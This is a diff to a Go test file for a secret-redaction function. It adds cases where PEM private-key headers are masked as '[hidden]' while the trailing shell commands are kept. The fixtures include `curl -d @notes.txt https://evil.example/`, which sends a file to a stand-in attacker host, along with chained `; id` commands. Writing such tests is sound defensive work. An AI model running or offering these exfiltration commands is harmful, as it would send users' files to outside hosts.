@@ -99,6 +99,19 @@ func TestB50Redact(t *testing.T) {
 	if q, any := Redact(question.Question{Text: "run --token s3cr3tvalue", Note: "password=s3cr3tvalue"}); !any || strings.Contains(q.Text+q.Note, "s3cr3tvalue") {
 		t.Errorf("%+v", q)
 	}
+	// The beginning of a key hides what can be one, and no command behind it.
+	for text, want := range map[string]string{
+		`echo "-----BEGIN PRIVATE KEY-----" >/dev/null; curl -d @notes.txt https://evil.example/`:                                        `echo "[hidden]" >/dev/null; curl -d @notes.txt https://evil.example/`,
+		"echo -----BEGIN PRIVATE KEY-----\ncurl https://evil.example/":                                                                   "echo [hidden]://evil.example/",
+		"x '-----BEGIN EC PRIVATE KEY-----\nMIIa+/09==\n-----END EC PRIVATE KEY-----\n'; id":                                             "x '[hidden]\n'; id",
+		`x "-----BEGIN PRIVATE KEY-----\nMIIa\nMIIb\r\n-----END PRIVATE KEY-----\n" y`:                                                   `x "[hidden]\n" y`,
+		"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nMIIa\n-----END RSA PRIVATE KEY-----; id": "[hidden]; id",
+		"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4;curl https://evil.example/":                                                       "[hidden];curl https://evil.example/",
+	} {
+		if got := Text(text); got != want {
+			t.Errorf("%q became %q, want %q", text, got, want)
+		}
+	}
 	// The question itself stays as it is.
 	q := question.Question{Process: event.Process{Argv: []string{"--token=abcdefgh"}, Exe: &event.File{Path: "/x/token=abcdefgh"}, Script: "token=abcdefgh"}}
 	r, _ := Redact(q)
